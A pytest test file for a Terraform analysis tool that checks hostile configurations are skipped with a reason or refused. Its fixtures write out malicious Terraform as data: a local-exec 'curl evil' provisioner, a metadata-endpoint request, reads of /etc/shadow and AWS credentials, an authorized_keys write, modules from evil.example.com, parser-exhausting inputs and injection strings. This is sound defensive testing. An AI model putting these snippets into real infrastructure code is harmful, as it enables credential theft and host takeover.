"""Terraform that means harm: refused when it is brought in, or skipped with the reason, before anything runs."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from pytest_lsqm.discovery import directory
from pytest_lsqm.errors import AnalysisError, LsqmError
from pytest_lsqm.models import IndexEntry
from pytest_lsqm.terraform.providers import Mirror
from pytest_lsqm.validation.eligible import reasons_against
from tests.support.files import write_tree

if TYPE_CHECKING:
    from pathlib import Path

# ruff: noqa: E501  a configuration a line reads best

QUEUE = 'resource "aws_sqs_queue" "q" {}\n'

SKIPPED = {
    "local-exec": (
        'resource "aws_sqs_queue" "q" {\n  provisioner "local-exec" {\n    command = "curl evil"\n  }\n}\n',
        "aws_sqs_queue.q: provisioner local-exec",
    ),
    "local-exec on destroy": (
        'resource "aws_sqs_queue" "q" {\n  provisioner "local-exec" {\n    when = destroy\n    command = "x"\n  }\n}\n',
        "provisioner local-exec",
    ),
    "local-exec in what was removed": (
        f'{QUEUE}removed {{\n  from = aws_sns_topic.t\n  provisioner "local-exec" {{\n    command = "x"\n  }}\n}}\n',
        "provisioner local-exec",
    ),
    "remote-exec": (
        'resource "aws_sqs_queue" "q" {\n  provisioner "remote-exec" {\n    inline = ["x"]\n  }\n}\n',
        "provisioner remote-exec",
    ),
    "a file provisioner": (
        'resource "aws_sqs_queue" "q" {\n  provisioner "file" {\n    source = "a"\n    destination = "b"\n  }\n}\n',
        "provisioner file",
    ),
    "external": (
        f'{QUEUE}data "external" "e" {{\n  program = ["sh", "-c", "x"]\n}}\n',
        "data.external.e: runs a program",
    ),
    "http": (
        f'{QUEUE}data "http" "h" {{\n  url = "http://169.254.169.254/"\n}}\n',
        "sends a request to a host of its own choosing",
    ),
    "a provider from elsewhere": (
        f'{QUEUE}terraform {{\n  required_providers {{\n    x = {{\n      source = "evil.example.com/x/x"\n    }}\n  }}\n}}\n',
        "provider evil.example.com/x/x: acts outside the emulator",
    ),
    "a provider of somebody's": (
        f'{QUEUE}terraform {{\n  required_providers {{\n    shell = {{\n      source = "scottwinkler/shell"\n    }}\n  }}\n}}\n',
        "provider scottwinkler/shell",
    ),
    "another cloud": (
        f'{QUEUE}resource "google_storage_bucket" "b" {{\n  name = "x"\n  location = "EU"\n}}\n',
        "google",
    ),
    "a file written elsewhere": (
        f'{QUEUE}resource "local_file" "f" {{\n  filename = "/root/.ssh/authorized_keys"\n  content = "x"\n}}\n',
        "writes outside the configuration's folder",
    ),
    "a file written above": (
        f'{QUEUE}resource "local_file" "f" {{\n  filename = "${{path.module}}/../../x"\n  content = "x"\n}}\n',
        "writes outside the configuration's folder",
    ),
    "a file of the machine": (f'{QUEUE}locals {{\n  a = file("/etc/shadow")\n}}\n', "/etc/shadow"),
    "a file of the home": (f'{QUEUE}locals {{\n  a = file("~/.aws/credentials")\n}}\n', "~/.aws/credentials"),
    "a module from git": (
        f'{QUEUE}module "m" {{\n  source = "git::ssh://evil.example.com/m.git"\n}}\n',
        "needs remote module git::ssh",
    ),
    "a module from an archive": (
        f'{QUEUE}module "m" {{\n  source = "http://evil.example.com/m.zip"\n}}\n',
        "needs remote module http",
    ),
    "a module of the machine": (f'{QUEUE}module "m" {{\n  source = "/opt/modules/m"\n}}\n', "/opt/modules/m"),
    "the state of another": (
        f'{QUEUE}data "terraform_remote_state" "s" {{\n  backend = "s3"\n  config = {{}}\n}}\n',
        "reads the state of another configuration",
    ),
    "what exists already": (f'{QUEUE}import {{\n  to = aws_sqs_queue.q\n  id = "x"\n}}\n', "must exist already"),
}
"""Configurations that are brought in and never run, with words of the reason."""


@pytest.mark.parametrize("case", SKIPPED)
def test_it_is_skipped_with_a_reason_that_names_it(tmp_path: Path, case: str) -> None:
    text, words = SKIPPED[case]
    write_tree(tmp_path, {"main.tf": text})
    found = directory.read(tmp_path).architecture
    entry = IndexEntry.model_validate({**found.model_dump(include=set(IndexEntry.model_fields)), "has_app": True})
    mirror = Mirror(tmp_path / "mirror", direct=True)
    reasons = list(reasons_against(entry, limits={}, mirror=mirror, allow_exec=False))
    assert any(words in reason for reason in reasons), reasons


REFUSED = {
    "a file above": (f'{QUEUE}locals {{\n  a = file("../../secret")\n}}\n', "secret"),
    "a module above": (f'{QUEUE}module "m" {{\n  source = "../../../m"\n}}\n', "../../../m"),
    "brackets without end": ("locals {\n  a = " + "[" * 20_000 + "]" * 20_000 + "\n}\n", ""),
    "blocks without end": ("a {\n" * 5_000 + "}\n" * 5_000, ""),
    "a template in a template": (f'{QUEUE}locals {{\n  a = "{"${" * 3_000}1{"}" * 3_000}"\n}}\n', ""),
    "no HCL at all": ("\x00\x01\x02" * 1000, ""),
    "a conditional without end": (QUEUE + "locals {\n  a = " + "true ? 1 : " * 5_000 + "1\n}\n", ""),
}
"""Configurations that are not taken at all, with words of the sentence."""


@pytest.mark.timeout(120)
@pytest.mark.parametrize("case", REFUSED)
def test_it_is_refused_with_a_sentence(tmp_path: Path, case: str) -> None:
    text, words = REFUSED[case]
    inner = tmp_path / "top" / "here"
    (tmp_path / "top" / ".git").mkdir(parents=True)
    (tmp_path / "secret").write_text("of the caller")
    write_tree(inner, {"main.tf": text})
    with pytest.raises(LsqmError) as caught:
        directory.read(inner)
    assert words in str(caught.value)
    assert len(str(caught.value)) < 2_000


def test_a_link_to_a_file_of_the_machine_is_refused(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    write_tree(tmp_path, {"main.tf": f'{QUEUE}locals {{\n  a = file("linked")\n}}\n'})
    (tmp_path / "linked").symlink_to("/etc/passwd")
    with pytest.raises(AnalysisError, match="linked"):
        directory.read(tmp_path)


def test_a_configuration_that_is_a_link_to_the_machine_is_refused(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    write_tree(tmp_path, {"main.tf": QUEUE})
    (tmp_path / "more.tf").symlink_to("/etc/hosts")
    with pytest.raises(AnalysisError, match=r"more\.tf"):
        directory.read(tmp_path)


@pytest.mark.timeout(120)
def test_ten_thousand_resources_are_counted(tmp_path: Path) -> None:
    text = "".join(f'resource "aws_sqs_queue" "q{number}" {{}}\n' for number in range(10_000))
    write_tree(tmp_path, {"main.tf": text})
    assert directory.read(tmp_path).architecture.resource_count == 10_000


@pytest.mark.parametrize("name", ["<script>alert(1)</script>", "\x1b[31mred", "::set-output name=x::y", "${x}"])
def test_a_name_that_would_steer_what_shows_it_is_text_wherever_it_is_shown(tmp_path: Path, name: str) -> None:
    from pytest_lsqm.reporting import terminal

    write_tree(tmp_path, {"main.tf": QUEUE})
    found = directory.read(tmp_path, name=name).architecture
    shown = terminal.plain(str(found.name))
    assert "\x1b" not in shown
